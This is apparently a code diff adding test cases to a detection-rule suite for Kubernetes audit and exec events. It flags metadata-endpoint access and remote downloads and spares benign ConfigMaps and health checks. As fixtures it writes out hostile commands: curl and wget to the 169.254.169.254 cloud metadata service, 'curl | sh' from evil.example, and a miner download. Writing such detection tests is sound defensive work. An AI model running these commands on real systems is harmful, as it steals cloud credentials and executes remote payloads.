@@ -592,6 +592,17 @@ const CASES: Case[] = [
         real('falcosecurity-falco/create_configmap_sensitive_values.json', 0),
     },
     misses: {
+      'a CA bundle': () =>
+        auditEvent({
+          verb: 'create',
+          resource: 'configmaps',
+          namespace: 'shop',
+          name: 'ca',
+          requestObject: {
+            kind: 'ConfigMap',
+            data: { 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n' },
+          },
+        }),
       'ordinary ConfigMap (corpus)': () =>
         real('falcosecurity-falco/create_configmap_no_sensitive_values.json'),
     },
@@ -953,6 +964,14 @@ const CASES: Case[] = [
   {
     rule: 'Exec Reaches Cloud Metadata',
     fires: {
+      'through the kubelet API (nodes/proxy exec)': () =>
+        auditEvent({
+          verb: 'get',
+          resource: 'nodes',
+          subresource: 'proxy',
+          name: 'n1',
+          uri: '/api/v1/nodes/n1/proxy/exec/shop/api-1/app?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&output=1',
+        }),
       'by a kube-system service account too': () =>
         exec(['wget', '-qO-', 'http://169.254.169.254/latest/api/token'], { user: CONTROLLER }),
       'curl to IMDS': () =>
@@ -1005,11 +1024,19 @@ const CASES: Case[] = [
     rule: 'Exec Downloads Remote Content',
     fires: {
       'curl | sh': () => exec(['sh', '-c', 'curl -fsSL https://evil.example/x.sh | sh']),
+      'a local URL does not hide a remote one': () =>
+        exec([
+          'sh',
+          '-c',
+          'curl -s http://localhost:8080/ready && curl -so /tmp/x https://evil.example/x',
+        ]),
       'wget https': () => exec(['wget', '-q', 'https://evil.example/miner', '-O', '/tmp/m']),
     },
     misses: {
       'curl localhost health': () => exec(['curl', '-s', 'http://localhost:8080/healthz']),
       'cat a file': () => exec(['cat', '/app/config.yaml']),
+      'curl to the API server': () =>
+        exec(['curl', '-sk', 'https://kubernetes.default.svc.cluster.local/version']),
     },
   },
   {
